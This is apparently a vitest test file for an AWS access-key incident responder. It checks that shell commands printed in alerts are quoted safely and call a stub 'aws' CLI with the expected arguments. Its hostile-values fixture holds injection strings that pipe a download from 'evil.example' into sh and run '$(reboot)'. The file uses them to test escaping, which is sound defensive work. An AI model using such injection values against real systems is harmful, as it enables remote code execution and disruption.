// Every command an alert prints, pasted into bash: it parses (`bash -n`), nothing in it is a shell metacharacter
// outside quotes, and it reaches a stub `aws` (first on PATH) with the arguments the real CLI would take.
import { execFileSync } from "node:child_process";
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { isCommand } from "../../../src/alert/commands";
import type { AlertContext } from "../../../src/alert/render";
import { type Outcome, Status } from "../../../src/contain/outcome";
import { parseManualRequest } from "../../../src/findings/manual";
import { findingOf, testConfig } from "../../support/fixtures";
import { deployed, disabledAlice, live, manualIdentity, outcome, planFor, renderOne } from "./outcomes";

const approve = testConfig({ mode: "approve" });
const HOSTILE = { accessKeyId: "AKIA'; curl evil.example | sh #", userName: "alice$(reboot)" };

/** One alert of each kind that prints commands, with the values that make them. */
const ALERTS: [string, () => Outcome][] = [
  ["disabled", () => disabledAlice()],
  ["failed", () => outcome(planFor(findingOf("guardduty-iam-user")), Status.Failed)],
  [
    "protected",
    () =>
      outcome(
        planFor(findingOf("guardduty-protected-user"), testConfig({ protectedUsers: ["breakglass-admin"] })),
        Status.Skipped,
      ),
  ],
  ["other account", () => outcome(planFor(findingOf("guardduty-member-account")), Status.Skipped)],
  [
    "approval needed",
    () => outcome(planFor(findingOf("guardduty-iam-user"), approve), Status.ApprovalNeeded),
  ],
  [
    "approval needed, owner unknown",
    () => outcome(planFor(findingOf("health-credentials-compromised"), approve), Status.ApprovalNeeded),
  ],
  [
    "refused reactivation",
    () =>
      outcome(
        planFor(findingOf("manual-reactivate", { viaSns: true }), testConfig(), manualIdentity()),
        Status.Skipped,
      ),
  ],
  [
    "dry run",
    () => outcome(planFor(findingOf("guardduty-iam-user"), testConfig({ dryRun: true })), Status.DryRun),
  ],
  [
    "no key named",
    () =>
      outcome(planFor(findingOf("guardduty-attack-sequence-no-credential")), Status.Skipped, {
        siblings: [
          { accessKeyId: "AKIADAVE000000000002", status: "Active", suspicious: true, disabled: false },
        ],
      }),
  ],
  [
    "hostile values",
    () =>
      outcome(
        { ...planFor(findingOf("guardduty-iam-user", HOSTILE), approve), userName: HOSTILE.userName },
        Status.ApprovalNeeded,
      ),
  ],
];

/**
 * The stub: knows the subcommands alerts use and the options each takes; a lambda invoke must name the function and
 * the region and carry a JSON payload with only the fields a manual request has. It logs its argv, one JSON line.
 */
const STUB = `#!/usr/bin/env node
const fs = require("node:fs");
const args = process.argv.slice(2);
fs.appendFileSync(process.env.AWS_STUB_LOG, JSON.stringify(args) + "\\n");
const fail = (why) => { process.stderr.write("stub aws: " + why + "\\n"); process.exit(2); };
const KNOWN = {
  "iam update-access-key": ["--user-name", "--access-key-id", "--status"],
  "iam get-access-key-last-used": ["--access-key-id"],
  "iam list-access-keys": ["--user-name"],
  "cloudtrail lookup-events": ["--lookup-attributes", "--region"],
  "lambda invoke": ["--function-name", "--region", "--cli-binary-format", "--payload"],
};
const command = args.slice(0, 2).join(" ");
const allowed = KNOWN[command];
if (!allowed) fail("unknown command " + command);
const options = {};
let rest = args.slice(2);
while (rest.length && rest[0].startsWith("--")) {
  if (!allowed.includes(rest[0])) fail("unknown option " + rest[0] + " for " + command);
  if (rest.length < 2) fail("no value for " + rest[0]);
  options[rest[0]] = rest[1];
  rest = rest.slice(2);
}
if (command === "lambda invoke") {
  for (const name of ["--function-name", "--region", "--payload"]) if (!options[name]) fail("no " + name);
  if (options["--cli-binary-format"] !== "raw-in-base64-out") fail("payload would be read as base64");
  if (rest.length !== 1) fail("expected one outfile, got " + JSON.stringify(rest));
  let payload;
  try { payload = JSON.parse(options["--payload"]); } catch { fail("payload is not JSON"); }
  const FIELDS = ["accessKeyId", "userName", "account", "reason", "status", "requestedBy"];
  const unknown = Object.keys(payload).filter((k) => !FIELDS.includes(k));
  if (unknown.length) fail("unknown payload fields " + unknown);
} else if (rest.length) fail("unexpected arguments " + JSON.stringify(rest));
`;

/** Outside single and double quotes: what bash would read as a control operator, redirection or expansion. */
const unquotedMetacharacters = (command: string): string[] =>
  [...command.replace(/'[^']*'|"[^"\\$`]*"/g, "")].filter((c) => "<>|;&`$()!*?[]#\\\n".includes(c));

let dir = "";
let log = "";

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "akr-stub-aws-"));
  log = join(dir, "calls.jsonl");
  writeFileSync(join(dir, "aws"), STUB);
  chmodSync(join(dir, "aws"), 0o755);
});

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

/** Every command of an alert: in its key's steps and, standing alone on its line, in the text. */
const commandsOf = (make: () => Outcome, ctx: AlertContext): string[] => {
  const alert = renderOne([make()], ctx);
  const steps = alert.document.keys.flatMap((k) => k.nextSteps).filter(isCommand);
  const lines = alert.text
    .split("\n")
    .map((line) => line.trim())
    .filter(isCommand);
  expect(lines.sort()).toEqual([...steps].sort());
  return steps;
};

/** Runs `command` in bash with the stub first on PATH; returns the argv the stub received. */
const runWithStub = (command: string): string[] => {
  writeFileSync(log, "");
  execFileSync("bash", ["--noprofile", "--norc", "-c", command], {
    cwd: dir,
    env: { ...process.env, PATH: `${dir}:${process.env.PATH}`, AWS_STUB_LOG: log },
    stdio: ["ignore", "pipe", "pipe"],
  });
  const calls = readFileSync(log, "utf8").trim().split("\n");
  expect(calls).toHaveLength(1);
  return JSON.parse(calls[0] as string);
};

describe.each([
  ["deployed", deployed],
  ["offline (names unknown)", live],
])("every command printed %s", (_, ctx) => {
  it.each(ALERTS)(
    "of an alert for %s parses, quotes its metacharacters and runs against the stub",
    (_, make) => {
      const commands = commandsOf(make, ctx);

      expect(commands.length).toBeGreaterThan(0);
      for (const command of commands) {
        execFileSync("bash", ["-n", "-c", command]);
        expect(unquotedMetacharacters(command), command).toEqual([]);
        const argv = runWithStub(command);
        expect(["aws", ...argv].join(" "), "the shell passes the words as printed").toBe(
          command.replace(/'([^']*)'/g, "$1"),
        );
        if (argv[0] === "lambda") expect(argv).toContain("--region");
      }
    },
  );
});

it("gives a deployed approval a payload the manual function takes as a request", () => {
  const [command] = commandsOf(ALERTS[4]?.[1] as () => Outcome, deployed).filter((c) =>
    c.startsWith("aws lambda"),
  );
  const argv = runWithStub(command as string);

  const payload = JSON.parse(argv[argv.indexOf("--payload") + 1] as string);
  expect(parseManualRequest(payload, "request-1")).toMatchObject({ kind: "findings" });
  expect(argv.slice(0, 6)).toEqual([
    "lambda",
    "invoke",
    "--function-name",
    "access-key-responder-prod-manual",
    "--region",
    "eu-west-1",
  ]);
});
